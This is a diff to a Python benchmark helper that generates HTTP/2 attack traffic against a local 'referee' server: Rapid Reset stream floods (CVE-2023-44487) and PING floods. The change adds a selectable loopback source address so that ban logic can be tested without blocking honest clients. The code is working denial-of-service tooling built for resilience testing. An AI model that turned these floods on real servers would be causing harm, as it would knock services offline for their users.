@@ -5,7 +5,9 @@ benchmarks/hostile.py (which loads this file by path) both use them.
 
 The frames are made once and sent as bytes, so that an attack costs its own process
 little: what it does to the referee is then what is measured. Each attack is bounded in
-time and count and stops by itself; every address is on this machine's loopback.
+time and count and stops by itself; every address is on this machine's loopback (an
+attack the referee bans its address for comes from 127.0.0.2 or another address of
+127.0.0.0/8, so that the honest clients' 127.0.0.1 is not banned with it).
 """
 
 from __future__ import annotations
@@ -64,8 +66,10 @@ class RawHttp2:
     the server's SETTINGS and PINGs as a client must, counts what comes back, and
     notices a GOAWAY or the connection's end."""
 
-    def __init__(self, address: str, timeout: float = 5.0) -> None:
-        self.sock = socket.create_connection(_split(address), timeout=timeout)
+    def __init__(self, address: str, timeout: float = 5.0, source: str | None = None) -> None:
+        self.sock = socket.create_connection(
+            _split(address), timeout=timeout, source_address=(source, 0) if source else None
+        )
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
         self._buffer = b""
@@ -163,15 +167,16 @@ def rapid_reset(
     rate: float = 8300,
     per_write: int = 50,
     stop: threading.Event | None = None,
+    source: str | None = None,
 ) -> AttackReport:
     """Streams opened and reset at once (CVE-2023-44487), ``rate`` a second in writes of
-    ``per_write``, for ``seconds`` (or until ``stop``); a connection the referee closes
-    is replaced by a new one."""
+    ``per_write``, for ``seconds`` (or until ``stop``), from the address ``source`` if
+    given; a connection the referee closes is replaced by a new one."""
     report = AttackReport()
     going = _until(seconds, stop)
     while going():
         try:
-            conn = RawHttp2(address)
+            conn = RawHttp2(address, source=source)
         except OSError:
             time.sleep(0.05)
             continue
@@ -199,11 +204,14 @@ def rapid_reset(
     return report
 
 
-def ping_flood(address: str, count: int, wait: float = 5.0) -> AttackReport:
-    """``count`` PINGs in one burst on a fresh connection, then what comes back until
-    the referee ends the connection (or ``wait`` seconds)."""
+def ping_flood(
+    address: str, count: int, wait: float = 5.0, source: str | None = None
+) -> AttackReport:
+    """``count`` PINGs in one burst on a fresh connection (from the address ``source``
+    if given), then what comes back until the referee ends the connection (or ``wait``
+    seconds)."""
     report = AttackReport(connections=1)
-    conn = RawHttp2(address)
+    conn = RawHttp2(address, source=source)
     conn.read(0.1)  # the server's SETTINGS
     start = time.monotonic()
     burst = b"".join(frame(PING, 0, 0, i.to_bytes(8, "big")) for i in range(count))
@@ -224,15 +232,19 @@ def ping_flood(address: str, count: int, wait: float = 5.0) -> AttackReport:
 
 
 def ping_flood_for(
-    address: str, seconds: float, burst: int = 10_000, stop: threading.Event | None = None
+    address: str,
+    seconds: float,
+    burst: int = 10_000,
+    stop: threading.Event | None = None,
+    source: str | None = None,
 ) -> AttackReport:
     """PING floods of ``burst`` each, one connection after another, for ``seconds`` (or
-    until ``stop``)."""
+    until ``stop``), from the address ``source`` if given."""
     total = AttackReport()
     going = _until(seconds, stop)
     while going():
         try:
-            total.add(ping_flood(address, burst, wait=2.0))
+            total.add(ping_flood(address, burst, wait=2.0, source=source))
         except OSError:
             time.sleep(0.05)
     return total
